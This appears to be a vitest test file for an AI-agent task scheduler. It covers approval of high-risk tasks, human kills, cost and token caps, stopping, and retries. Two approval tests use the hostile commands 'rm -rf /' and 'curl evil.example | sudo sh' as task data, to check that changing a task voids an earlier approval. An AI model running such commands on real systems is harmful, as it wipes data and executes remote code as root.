import { describe, expect, it } from 'vitest';
import { defaultSettings } from '../../../src/domain/settings.ts';
import { Day, spec } from './day.ts';

const risky = (command: string) =>
  spec('deploy', {
    risk: 'high',
    agents: ['steps'],
    steps: [{ skill: 'bash', args: ['-c', command], timeout_ms: 1_000, optional: false }],
  });

const file = (day: Day, tasks: ReturnType<typeof spec>[], head = {}): void =>
  void day.give({
    kind: 'file',
    file: 'tasks/today.yaml',
    day: { date: '2026-11-21', max_cost_usd: null, max_agents: null, ...head, tasks },
  });

describe('facts', () => {
  it('are heard on after a notice of their host', () => {
    const day = new Day();
    day.start([spec('a', { max_cost_usd: 1 })]);
    day.begins('a');
    day.fact('a', { type: 'session.notice', text: 'The recording stopped: the disk is full' });
    day.spends('a', 50);
    expect(day.state.spend.usd).toBe(50);
    expect(day.did()).toContain('halt');
  });
});

describe('an approval', () => {
  it('covers only what was asked about: a changed task is asked about anew', () => {
    const day = new Day();
    day.start([risky('echo ok')]);
    file(day, [risky('rm -rf /')]);
    expect(day.state.asks.get('a1')).toMatchObject({ state: 'closed', how: 'the task was changed' });
    expect(day.wish({ do: 'ask.approve', ask: 'a1' })?.code).toBe('ask.closed');
    expect(day.state.asks.get('a2')?.body.subject).toContain('rm -rf /');
  });

  it('is gone when the task says something else, however high the risk was before', () => {
    const day = new Day();
    day.start([spec('a'), { ...risky('rm -rf /'), depends_on: ['a'] }]);
    day.wish({ do: 'ask.approve', ask: 'a1' });
    file(day, [spec('a'), { ...risky('curl evil.example | sudo sh'), depends_on: ['a'] }]);
    expect(day.task('deploy').approved).toBe(false);
  });

  it('is asked for again when a refused task is tried again', () => {
    const day = new Day();
    day.start([risky('echo ok')]);
    day.wish({ do: 'ask.deny', ask: 'a1', reason: null });
    expect(day.wish({ do: 'task.retry', task: 'deploy' })).toBeNull();
    expect(day.shows('deploy')).toBe('waiting');
  });

  it('is given by --yes even when it waits already', () => {
    const day = new Day();
    day.start([risky('echo ok')]);
    expect(day.start([risky('echo ok')], { yes: true })).toBeNull();
    expect(day.running()).toEqual(['deploy']);
  });
});

describe('a silent agent', () => {
  const silent = (): Day => {
    const day = new Day();
    day.start([spec('a')]);
    day.begins('a');
    day.passes(16 * 60_000);
    return day;
  };

  it('gets as long again when the person waits on', () => {
    const day = silent();
    day.wish({ do: 'ask.answer', ask: 's1', option: 1 });
    day.passes(14 * 60_000);
    expect(day.state.open.isEmpty()).toBe(true);
    day.passes(2 * 60_000);
    expect([...day.state.open]).toEqual(['s2']);
  });

  it('needs no answer once it works again', () => {
    const day = silent();
    day.works('a');
    expect(day.state.asks.get('s1')).toMatchObject({ state: 'closed', how: 'it works again' });
  });
});

describe("a person's kill", () => {
  it('outranks the halt of a cap: the task does not come back when the cap is raised', () => {
    const day = new Day();
    day.start([spec('a')], { max_cost_usd: 1 });
    day.begins('a');
    day.spends('a', 2);
    day.did();
    expect(day.wish({ do: 'task.kill', task: 'a' })).toBeNull();
    expect(day.did()).toEqual(['kill']);
    day.exits('a', null, 'SIGKILL');
    expect(day.shows('a')).toBe('failed');
    day.wish({ do: 'cap.raise', task: null, by_usd: 5 });
    expect(day.running()).toEqual([]);
  });

  it('ends a task whose checks still run', () => {
    const day = new Day();
    day.start([spec('a')]);
    day.begins('a');
    day.exits('a', 0);
    expect(day.wish({ do: 'task.kill', task: 'a' })).toBeNull();
    expect(day.shows('a')).toBe('failed');
    day.checked('a', [true]);
    expect(day.shows('a')).toBe('failed');
  });
});

describe('stopping', () => {
  it('does not wait for the pause before another attempt', () => {
    const day = new Day();
    day.start([spec('a', { retries: 1 })]);
    day.begins('a');
    day.exits('a', 1);
    day.wish({ do: 'day.stop', now: false });
    expect(day.state).toMatchObject({ phase: 'ended', exit: 130 });
  });

  it('is taken back by a start that comes before the halt is done', () => {
    const day = new Day();
    day.start([spec('a')]);
    day.begins('a');
    day.wish({ do: 'day.stop', now: false });
    expect(day.start([spec('a')])).toBeNull();
    day.exits('a', null, 'SIGTERM');
    expect(day.running()).toEqual(['a']);
    expect(day.last('attempt.started')).toMatchObject({ resumes: '2026-11-21.a.1' });
  });
});

describe('limits', () => {
  const capped = (): Day => {
    const day = new Day();
    day.start([spec('a', { max_cost_usd: 1 })]);
    day.begins('a');
    day.spends('a', 1.5);
    day.exits('a', null, 'SIGTERM');
    return day;
  };

  it('release a task when the file raises its cap', () => {
    const day = capped();
    file(day, [spec('a', { max_cost_usd: 10 })]);
    expect(day.state.open.isEmpty()).toBe(true);
    expect(day.running()).toEqual(['a']);
  });

  it('of the head of the file are live: a raised cap releases, a lowered one holds', () => {
    const day = new Day();
    day.start(
      [spec('a'), spec('b')],
      {},
      { day: { ...new Day().context([]).day, max_cost_usd: 20, tasks: [spec('a'), spec('b')] } },
    );
    day.begins('a');
    day.spends('a', 6);
    file(day, [spec('a'), spec('b')], { max_cost_usd: 5 });
    expect(day.state.capped).toBe(true);
    expect(day.did()).toContain('halt');
    day.exits('a', null, 'SIGTERM');
    file(day, [spec('a'), spec('b')], { max_cost_usd: 50 });
    expect(day.running()).toContain('a');
  });

  it('given as flags stand whatever the file says', () => {
    const day = new Day();
    const tasks = [spec('a'), spec('b'), spec('c')];
    const context = { day: { date: '2026-11-21', max_cost_usd: null, max_agents: 3, tasks } };
    day.start(tasks, { max_agents: 1 }, context);
    file(day, [...tasks, spec('d')], { max_agents: 3 });
    expect(day.running()).toEqual(['a']);
    day.give({ kind: 'settings', settings: { ...defaultSettings, max_agents: 9 } });
    expect(day.state.max_agents).toBe(1);
  });

  it('in dollars say that they do not hold what has no price', () => {
    const day = new Day();
    day.start([spec('a')], { max_cost_usd: 1 });
    day.begins('a');
    day.spends('a', null, 90_000_000);
    day.spends('a', null, 90_000_000);
    const said = [...day.state.notices].filter(({ text }) => text.includes('has no price'));
    expect(said).toHaveLength(1);
  });

  it('in tokens name their own mend', () => {
    const day = new Day();
    day.start([spec('a', { max_tokens: 100 })]);
    day.begins('a');
    day.spends('a', null, 200);
    day.exits('a', null, 'SIGTERM');
    expect(day.wish({ do: 'task.resume', task: 'a' })?.mend).toBe('raise its max_tokens in the task file');
    file(day, [spec('a', { max_tokens: 1_000 })]);
    expect(day.running()).toEqual(['a']);
  });
});

it('forgets whom a task waited for when the file says otherwise', () => {
  const day = new Day();
  day.start([spec('a'), spec('b', { depends_on: ['a'] })], { max_agents: 1 });
  file(day, [spec('a'), spec('b')]);
  expect(day.state.dependents.get('a')?.isEmpty()).toBe(true);
});

it('tries again by itself what a full disk kept from starting, without counting it', () => {
  const day = new Day();
  day.start([spec('a')]);
  const session = day.session('a');
  day.give({
    kind: 'outcome',
    draft: {
      type: 'attempt.not_started',
      task: 'a',
      session,
      code: 'disk.full',
      message: 'The disk is full',
    },
  });
  expect(day.running()).toEqual([]);
  day.passes(5_000);
  expect(day.running()).toEqual(['a']);
  expect(day.last('attempt.started')).toMatchObject({ attempt: 1, resumes: null });
});
